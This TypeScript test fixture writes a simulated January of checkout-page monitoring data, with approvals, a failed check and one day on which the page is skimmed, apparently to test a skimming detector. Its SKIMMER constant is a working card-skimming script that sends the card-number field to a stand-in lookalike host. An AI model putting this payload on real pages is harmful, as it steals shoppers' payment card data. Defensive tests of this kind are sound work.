// SPDX-License-Identifier: Apache-2.0
// The data folder of a shop after a month: approved, checked, skimmed for a day, released, and once forgotten.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { sha256 } from '../../src/core/digest.ts';
import type { PageCapture } from '../../src/core/ports/index.ts';
import {
  type ApprovedPage,
  approvePage,
  checkDigest,
  judgePage,
  type LoggedCheck,
  readHtml,
  staticCapture,
} from '../../src/monitor/index.ts';
import { pageKnowledge } from './looks.ts';

const ADDRESS = 'https://shop.example/checkout';
const html = (more = '') =>
  `<script src="/app.js"></script><script src="https://js.psp.example/v3.js" integrity="sha384-abc"></script>${more}<form action="/pay"><input autocomplete="cc-number"></form>`;

function capture(app: string, more = ''): PageCapture {
  const texts = new Map([
    ['https://shop.example/app.js', app],
    ['https://js.psp.example/v3.js', 'psp()'],
  ]);
  const headers = {
    'content-security-policy':
      "script-src 'self' https://js.psp.example; connect-src 'self'; form-action 'self'; report-to r",
  };
  return staticCapture(
    ADDRESS,
    { url: ADDRESS, status: 200, headers },
    readHtml(html(more), ADDRESS),
    texts,
    [],
  );
}

type Keep = (seen: PageCapture) => string;

function keepIn(folder: string): Keep {
  mkdirSync(join(folder, 'captures'), { recursive: true });
  return (seen) => {
    const kept = { ...seen, scripts: seen.scripts.map(({ text: _, ...script }) => script), requests: [] };
    const text = `${JSON.stringify(kept)}\n`;
    writeFileSync(join(folder, 'captures', `${sha256(text).slice(7)}.json`), text);
    return sha256(text);
  };
}

function approve(keep: Keep, seen: PageCapture, before: ApprovedPage | undefined, by: string, at: string) {
  const knowledge = pageKnowledge();
  const findings = judgePage(seen, before, knowledge, { day: at.slice(0, 10) });
  return approvePage('checkout', seen, keep(seen), before, findings, knowledge, {
    by,
    at,
    owner: before === undefined ? 'Web team' : 'Shop <team>',
    reason: 'Takes card payments',
    review: '2027-07-01',
    byShape: false,
    byAddress: () => false,
  });
}

type Day = readonly [day: string, seen: PageCapture | undefined, approved: ApprovedPage | undefined];

function logOf(keep: Keep, days: readonly Day[]): readonly LoggedCheck[] {
  const checks: LoggedCheck[] = [];
  for (const [day, seen, approved] of days) {
    const at = `2027-01-${day}T06:00:00.000Z`;
    const findings =
      seen === undefined ? [] : judgePage(seen, approved, pageKnowledge(), { day: at.slice(0, 10) });
    const judged = approved === undefined ? 'not-approved' : findings.length > 0 ? 'changed' : 'as-approved';
    const last = checks.at(-1);
    checks.push({
      page: 'checkout',
      url: ADDRESS,
      at,
      look: 'static',
      vantage: 'watch-1.shop.example',
      ...(seen === undefined ? {} : { capture: keep(seen) }),
      ...(approved === undefined ? {} : { approved: approved.at }),
      outcome: seen === undefined ? 'failed' : judged,
      findings: findings.map(({ kind, severity, what, text, pointer }) => ({
        kind,
        severity,
        what,
        text,
        pointer,
      })),
      ...(last === undefined ? {} : { before: checkDigest(last) }),
    });
  }
  return checks;
}

const SKIMMER =
  '<script>new Image().src="//js.psp-cdn.example/g?"+document.querySelector("[autocomplete=cc-number]").value</script>';

/** Writes inventory, log and captures below `folder`. */
export function writeJanuary(folder: string): void {
  const keep = keepIn(folder);
  const [one, two] = [capture('one()'), capture('two()')];
  const first = approve(keep, one, undefined, 'Ada', '2027-01-01T07:00:00.000Z');
  const second = approve(keep, two, first, 'Bob & Co', '2027-01-25T09:00:00.000Z');
  const checks = logOf(keep, [
    ['01', one, undefined],
    ['08', one, first],
    ['09', capture('one()', SKIMMER), first],
    ['10', one, first],
    ['24', undefined, first],
    ['25', two, first],
    ['26', two, second],
  ]);
  const inventory = { schema: 'ensuresec/page-inventory/1', pages: [second] };
  writeFileSync(join(folder, 'inventory.json'), JSON.stringify(inventory));
  writeFileSync(join(folder, 'checks.ndjson'), checks.map((each) => `${JSON.stringify(each)}\n`).join(''));
}
